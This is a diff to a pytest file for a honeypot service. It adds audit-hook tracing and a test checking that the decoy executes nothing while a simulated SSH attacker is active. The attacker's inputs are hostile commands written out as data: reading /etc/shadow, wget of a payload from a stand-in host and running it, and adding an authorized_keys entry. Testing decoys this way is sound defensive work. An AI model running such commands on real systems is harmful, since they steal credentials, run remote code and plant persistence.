@@ -1,37 +1,88 @@
 # SPDX-License-Identifier: MIT
-"""The process that faces attackers opens no socket of its own, and what it is told of others' spools it leaves alone."""
+"""The process that faces attackers opens no socket, executes nothing, writes its spool alone, and leaves others' spools be."""
 
 import asyncio
 import json
 import os
+import re
 import signal
 import sys
+from collections.abc import AsyncIterator
+from contextlib import asynccontextmanager
+from dataclasses import dataclass, field
 from pathlib import Path
 
 import pytest
 
 from decnet.catalog import service
+from tests.lures.ssh.attacker import Attacker
 from tests.support.hosts import prepared
 from tests.support.installation import Installation
+from tests.support.lures import MemoryPen, Served
 
 pytestmark = pytest.mark.client
 
 FLEET = "[fleet]\nname = test\n[decoy web]\narchetype = web-server\naddress = 127.79.0.{number}\nlures = http, ssh\n"
-WATCHED = """
-import json, sys
+LOGIN = "[decoy web/ssh]\naccounts = root:123456\nfailure_seconds = 0\n"
+NETWORK = ("socket.bind", "socket.connect", "socket.sendto", "socket.sendmsg")
+EXECUTION = ("subprocess.Popen", "os.exec", "os.posix_spawn", "os.spawn", "os.system", "os.fork", "os.forkpty", "pty.spawn")
+CHANGES = tuple(
+    f"os.{name}" for name in ("rename", "remove", "mkdir", "rmdir", "link", "symlink", "truncate", "chmod", "chown", "utime")
+)
+SPOOLED = re.compile(r"lock|reserve|\d{20}\.jsonl(\.new)?")  # opened below the descriptor of the spool's folder
+WATCHED = f"""
+import json, os, sys
 def watch(event, arguments):
-    if event in ("socket.bind", "socket.connect", "socket.sendto", "socket.sendmsg") and arguments[1] is not None:
-        print("CALL", json.dumps([event, str(arguments[1:])]), file=sys.stderr, flush=True)
+    if event not in {("open", *NETWORK, *EXECUTION, *CHANGES)} or event in {NETWORK} and arguments[1] is None:
+        return
+    if event == "open" and not (isinstance(arguments[2], int) and arguments[2] & (os.O_WRONLY | os.O_RDWR | os.O_CREAT)):
+        return
+    if isinstance(arguments[0], int):
+        arguments = os.readlink("/proc/self/fd/%d" % arguments[0]), *arguments[1:]
+    print("CALL", json.dumps([event, *map(str, arguments)]), file=sys.stderr, flush=True)
 sys.addaudithook(watch)
 from decnet.cli.main import main
 sys.exit(main(["decoys"]))
 """
 
 
+@dataclass
+class Watched:
+    """The decoys service under an audit hook, in a folder; ``calls`` are what it did to the world, complete when it has ended."""
+
+    host: Installation
+    folder: Path
+    calls: list[list[str]] = field(default_factory=list)
+
+    def named(self, prefix: str) -> list[list[str]]:
+        """Return the calls whose event begins with a prefix."""
+        return [call for call in self.calls if call[0].startswith(prefix)]
+
+
+@asynccontextmanager
+async def watched(folder: Path) -> AsyncIterator[Watched]:
+    """Run bus, agent and the decoys service, which is watched from before its first import to its end."""
+    async with prepared(folder) as host:
+        for name in ("bus", "agent"):
+            await host.supervisor._launch(service(name))
+        found = Watched(host, folder / "empty")
+        found.folder.mkdir()
+        environment = {**host.environment, "PYTHONDONTWRITEBYTECODE": "1"}
+        process = await asyncio.create_subprocess_exec(
+            sys.executable, "-c", WATCHED, cwd=found.folder, env=environment, stderr=asyncio.subprocess.PIPE
+        )
+        try:
+            yield found
+        finally:
+            process.send_signal(signal.SIGTERM)
+            _, said = await process.communicate()
+        found.calls += [json.loads(line[5:]) for line in said.decode().splitlines() if line.startswith("CALL ")]
+
+
 async def deploy(host: Installation, folder: Path, number: int) -> None:
     """Deploy one decoy."""
     fleet = folder / "fleet.ini"
-    fleet.write_text(FLEET.format(number=number))
+    fleet.write_text(FLEET.format(number=number) + LOGIN)
     finished = await host.command("deploy", str(fleet), "--yes")
     assert finished.code == 0, finished.stderr.decode()
 
@@ -49,23 +100,42 @@ async def converse(address: str, port: int, said: bytes) -> bytes:
 
 async def test_decoys_service_binds_nothing_and_connects_to_the_agent_alone(tmp_path: Path) -> None:
     """Watched by an audit hook of the interpreter from before its first import to its end, over whole sessions."""
-    async with prepared(tmp_path / "host") as host:
-        for name in ("bus", "agent"):
-            await host.supervisor._launch(service(name))
-        watched = await asyncio.create_subprocess_exec(
-            sys.executable, "-c", WATCHED, env=host.environment, stderr=asyncio.subprocess.PIPE
-        )
-        try:
-            await deploy(host, tmp_path, 1)
-            assert await converse("127.79.0.1", 80, b"GET / HTTP/1.0\r\n\r\n")
-            assert (await converse("127.79.0.1", 22, b"SSH-2.0-x\r\n")).startswith(b"SSH-2.0-OpenSSH")
-        finally:
-            watched.send_signal(signal.SIGTERM)
-            _, said = await watched.communicate()
-    calls = [json.loads(line[5:]) for line in said.decode().splitlines() if line.startswith("CALL ")]
-    strangers = [call for call in calls if str(host.config.paths.handover_socket) not in call[1]]
-    assert strangers == []
-    assert [call[0] for call in calls].count("socket.connect") >= 1
+    async with watched(tmp_path / "host") as process:
+        await deploy(process.host, tmp_path, 1)
+        assert await converse("127.79.0.1", 80, b"GET / HTTP/1.0\r\n\r\n")
+        assert (await converse("127.79.0.1", 22, b"SSH-2.0-x\r\n")).startswith(b"SSH-2.0-OpenSSH")
+        agent = str(process.host.config.paths.handover_socket)
+    assert [call for call in process.named("socket.") if agent not in call[2]] == []
+    assert process.named("socket.connect")
+
+
+async def test_decoys_service_executes_nothing_and_writes_its_spool_alone(tmp_path: Path) -> None:
+    """Over logins, a shell's commands, a script, sftp and scp with OpenSSH's own programs; every import included."""
+    async with watched(tmp_path / "host") as process:
+        await deploy(process.host, tmp_path, 4)
+        served = Served("127.79.0.4", 22, MemoryPen(), asyncio.Semaphore(0))
+        attacker = Attacker(served, tmp_path / "attacker")
+        (tmp_path / "tool").write_bytes(b"\x7fELF")
+        assert b"uid=0(root)" in (await attacker.ssh("id; ps aux; cat /etc/shadow; wget http://192.0.2.1/x -O /tmp/x")).stdout
+        await attacker.ssh(stdin=b"echo key >>~/.ssh/authorized_keys\ncrontab -l\nsh -c 'chmod 777 /tmp/x; /tmp/x'\n")
+        assert (
+            await attacker.sftp(f"put {tmp_path}/tool /tmp/tool\nchmod 755 /tmp/tool\nget /etc/passwd /dev/null\n")
+        ).code == 0
+        assert (await attacker.scp("-O", str(tmp_path / "tool"), "HOST:/tmp/other")).code == 0
+        paths = process.host.config.paths
+    assert [call for name in EXECUTION for call in process.named(name)] == []
+    own = str(paths.spool / process.host.config.host.name / "decoys"), str(paths.logs / "decnet.decoys.log")
+    changed = [call for call in process.calls if call[0] == "open" or call[0] in CHANGES]
+    assert [call for call in changed if not is_own(call, own)] == []
+    assert any("/blobs/" in call[1] for call in changed)
+    assert list(process.folder.iterdir()) == []
+
+
+def is_own(call: list[str], own: tuple[str, str]) -> bool:
+    """Say whether a call changes what is the service's own: below its paths, the folders above them, or a name in its spool."""
+    event, name = call[:2]
+    above = event == "os.mkdir" and any(path.startswith(name) for path in own)
+    return above or name.startswith(own) or SPOOLED.fullmatch(name) is not None
 
 
 async def test_stop_ends_sessions_and_tells_why(tmp_path: Path) -> None:
